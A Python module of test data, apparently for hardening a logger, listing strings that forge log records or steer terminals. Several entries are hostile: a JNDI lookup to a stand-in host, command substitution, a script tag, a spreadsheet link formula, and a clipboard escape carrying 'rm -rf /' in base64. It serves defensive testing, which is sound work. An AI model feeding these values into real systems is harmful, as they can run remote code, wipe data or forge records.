"""Texts that somebody could put into a log in order to fake records, or to control a terminal or a reader."""

from __future__ import annotations

import unicodedata

ESC, BEL, CSI = "\x1b", "\x07", "\x9b"

#: By what they are.
INJECTIONS: dict[str, str] = {
    "line-feed": "first\nsecond",
    "carriage-return": "shown\rHIDES",
    "both": "first\r\nsecond",
    "blank-lines": "\n\n\n",
    "record-of-text": "x\n2026-01-01T00:00:00.000000Z ERROR    bunsui.sessions: session failed",
    "record-of-json": 'x\n{"time":"2026-01-01T00:00:00.000000Z","level":"ERROR","logger":"a","message":"b"}',
    "end-of-json": '"},{"level":"CRITICAL","message":"',
    "fields-of-text": 'x session=aaaaaaaaaaaaaaaa job=b level="ERROR"',
    "vertical-tab": "a\x0bb",
    "form-feed": "a\x0cb",
    "file-separators": "a\x1cb\x1db\x1eb\x1fb",
    "next-line": "a\x85b",
    "line-separator": "a\u2028b",
    "paragraph-separator": "a\u2029b",
    "tab": "a\tb",
    "nul": "a\x00b",
    "bell": f"a{BEL}b",
    "backspaces": "root\b\b\b\buser",
    "delete": "a\x7fb",
    "colour": f"{ESC}[31mred{ESC}[0m",
    "clear-screen": f"{ESC}[2J{ESC}[H",
    "cursor-up": f"{ESC}[1A{ESC}[2Kgone",
    "title": f"{ESC}]0;owned{BEL}",
    "hyperlink": f"{ESC}]8;;http://evil.test/{ESC}\\click{ESC}]8;;{ESC}\\",
    "clipboard": f"{ESC}]52;c;cm0gLXJmIC8K{BEL}",
    "device-control": f'{ESC}P$q"p{ESC}\\',
    "report": f"{ESC}[6n{ESC}[c",
    "reset": f"{ESC}c",
    "c1-sequence": f"{CSI}31mred",
    "c1-string": "a\x9d0;owned\x9cb",
    "bidi-override": "user\u202e nimda \u202c",
    "bidi-isolate": "a\u2066b\u2069\u200f\u200e\u061c",
    "zero-width": "ad\u200bmin\u200d\ufeff",
    "tags": "a\U000e0041\U000e007fb",
    "surrogate": "a\ud800b\udc80",
    "percent": "%s %d %(message)s %n %100000000s",
    "braces": "{} {0.__class__} {message!r} ${jobs.a.output} $(id) `id` ${jndi:ldap://evil.test/a}",
    "backslashes": "\\n \\x1b[31m \\u2028 \\",
    "markup": "<script>alert(1)</script> [bold red]x[/] [link=http://evil.test]y[/link] &lt;",
    "formula": '=HYPERLINK("http://evil.test";"x")',
    "mark-of-a-worker": '\x1e0123456789abcdef:{"level":"ERROR","logger":"a","message":"b"}',
    "combining": "a" + "\u0301" * 300,
    "long": "0123456789abcdef" * 1500,
    "emoji": "👩\u200d👩\u200d👧 日本 ∀",
    "empty": "",
    "spaces": "  ",
}

#: Categories of Unicode that do something, rather than show something.
_OBEYED = {"Cc", "Cf", "Cs", "Zl", "Zp"}


def obeyed(text: str) -> set[str]:
    """The characters of a text that a terminal or a reader of lines may obey, but for ends of lines."""
    return {c for c in text if c != "\n" and unicodedata.category(c) in _OBEYED}
